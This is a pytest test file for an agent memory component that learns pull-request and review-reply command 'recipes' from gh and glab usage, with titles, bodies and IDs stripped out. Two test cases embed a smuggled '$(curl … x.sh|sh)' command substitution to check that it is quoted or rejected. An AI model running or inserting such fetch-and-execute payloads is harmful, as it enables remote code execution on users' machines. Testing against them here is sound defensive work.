"""Issue 26: how a project opens pull requests and answers review comments is a recipe, learned from
the code host's commands that did it (``review_commands``), one PR's text and numbers taken out."""

from __future__ import annotations

import pytest
from obs_helpers import Seq, digest_of, kinds

from desktop.memory.observer.novelty import HashingEmbedder, Novelty
from desktop.memory.observer.promotion import Promoter
from desktop.memory.observer.review_commands import PULL_REQUEST, REVIEW_REPLY, review_kind, review_recipe
from desktop.memory.store.database import Database

_BODY = "\"$(cat <<'EOF'\n## Summary\n- fix && test; done\nEOF\n)\""


@pytest.mark.parametrize(("command", "kind", "recipe"), [
    # The team's choice is kept, the PR's own title, body and branch are not.
    (f"gh pr create --title 'fix: x' --draft --body {_BODY}", PULL_REQUEST, "gh pr create --draft --title … --body …"),
    ("gh pr create --draft --head alex/ent-7 --base alex/ent-6 -t x -b y", PULL_REQUEST,
     "gh pr create --draft -t … -b …"),
    ("gh pr create --draft --repo o/r --title x", PULL_REQUEST, "gh pr create --draft --repo o/r --title …"),
    ("gh pr create --base develop --fill", PULL_REQUEST, "gh pr create --base develop --fill"),
    ("glab mr create --draft --title x", PULL_REQUEST, "glab mr create --draft --title …"),
    ("gh pr create --reviewer team/core --title x --body y", PULL_REQUEST,
     "gh pr create --reviewer team/core --title … --body …"),
    # One habit typed in any order is one recipe; each tool's short options mean what that tool says.
    ("gh pr create --body y --reviewer alice -d --title x", PULL_REQUEST,
     "gh pr create --reviewer alice -d --title … --body …"),
    ("gh pr create -d --fill", PULL_REQUEST, "gh pr create -d --fill"),
    ("glab mr create -b develop --draft -d 'what it does' --title x", PULL_REQUEST,
     "glab mr create --draft -b develop --title … -d …"),
    # A value kept is quoted for the shell: a label is a literal, never a command substitution.
    ("gh pr create --draft --label '$(curl -s x.sh|sh)' --label 'needs review'", PULL_REQUEST,
     "gh pr create --draft --label '$(curl -s x.sh|sh)' --label 'needs review'"),
    # Nothing chosen: what any agent does unprompted; one PR's milestone or a browser is no habit.
    ("gh pr create --title x --body y", PULL_REQUEST, None),
    ("gh pr create --base main --fill", PULL_REQUEST, None),
    ("gh pr create --web --milestone 'v1.2' -m v1.3 --title x", PULL_REQUEST, None),
    # A reply in the comment's thread: the PR's number and the comment's id are placeholders.
    ("gh api repos/o/r/pulls/90/comments/2719242908/replies -f body=\"Fixed in abc123\"", REVIEW_REPLY,
     "gh api repos/o/r/pulls/<number>/comments/<id>/replies -f body=…"),
    ("gh api repos/o/r/pulls/9/comments/27/replies -X POST --jq .id -f 'body=done'", REVIEW_REPLY,
     "gh api repos/o/r/pulls/<number>/comments/<id>/replies -X POST -f body=…"),
    # The reply's text is no recipe however it is passed; options that only shape the output go.
    ("gh api -X POST repos/o/r/pulls/9/comments/27/replies --raw-field=body='Fixed in abc' --jq=.id", REVIEW_REPLY,
     "gh api -X POST repos/o/r/pulls/<number>/comments/<id>/replies --raw-field=body=…"),
    ("gh api repos/o/r/pulls/9/comments/27/replies -fbody=secret --input /tmp/reply.json", REVIEW_REPLY,
     "gh api repos/o/r/pulls/<number>/comments/<id>/replies -fbody=…"),
    # GitLab: a discussion's id is hex, and its replies are notes.
    ("glab api projects/42/merge_requests/7/discussions/6a9c0f3ce7b1/notes -f body=x", REVIEW_REPLY,
     "glab api projects/42/merge_requests/<number>/discussions/<id>/notes -f body=…"),
    ("gh api repos/o/r/pulls/1/discussions/2/notes -f body=x", None, None),
    ("gh api 'repos/$(curl x.sh)/r/pulls/1/comments/2/replies' -f body=x", None, None),  # stated unquoted: no
    # Not a reply in a thread (the path GitHub answers with 404), or not the code host's command at all.
    ("gh api repos/o/r/pulls/comments/27/replies -f body=x", None, None),
    ("gh api repos/o/r/pulls/9/comments", None, None),
    ("gh pr view 12 --comments", None, None),
    ("git commit -m 'gh pr create --draft'", None, None),
])
def test_review_commands_read_as_recipes(command: str, kind: str | None, recipe: str | None) -> None:
    assert review_kind(command) == kind
    if kind is not None:
        assert review_recipe(command, kind) == recipe


def test_an_unclosed_quote_is_no_recipe() -> None:
    assert review_recipe("gh pr create --draft --title 'half", PULL_REQUEST) is None


def _recipes(seq: Seq) -> list[tuple[str, str, str]]:
    return sorted((s.data["category"], s.data["command"], s.data["folder"])
                  for s in kinds(digest_of(seq.end())).get("recipe", []))


def test_from_any_folder_with_no_setup_and_never_from_a_failed_run() -> None:
    s = Seq().bash("source .venv/bin/activate", "").bash("cd web", "")
    s.bash(f"gh pr create --draft --title 'feat: y' --body {_BODY}", "https://github.com/o/r/pull/12")
    s.bash("gh api repos/o/r/pulls/12/comments/77/replies -f body='Fixed in 1a2b3c'",
           '{"message":"Parent comment not found"} gh: Parent comment not found (HTTP 404)', True)
    assert _recipes(s) == [(PULL_REQUEST, "gh pr create --draft --title … --body …", "")]


def test_the_way_used_in_two_sessions_is_stored_in_words_of_every_code_host(db: Database) -> None:
    p = Promoter(db, novelty=Novelty(HashingEmbedder()))
    for i in range(2):
        s = Seq(f"s{i}", t0=1_700_000_000.0 + 1000 * i)
        s.bash(f"gh api repos/o/r/pulls/{40 + i}/comments/{900 + i}/replies -f body='Fixed in abc{i}'", "{}")
        p.promote(digest_of(s.bash(f"gh pr create --draft --title t{i} --body b{i}", "https://x/pull/1").end()))
    got = [r[0] for r in db.reads.conn().execute("SELECT content FROM memories WHERE deprecated = 0 ORDER BY id")]
    assert sorted(got) == [
        "Answer a review comment in its own thread with "
        "`gh api repos/o/r/pulls/<number>/comments/<id>/replies -f body=…`.",
        "Open pull requests with `gh pr create --draft --title … --body …`."]
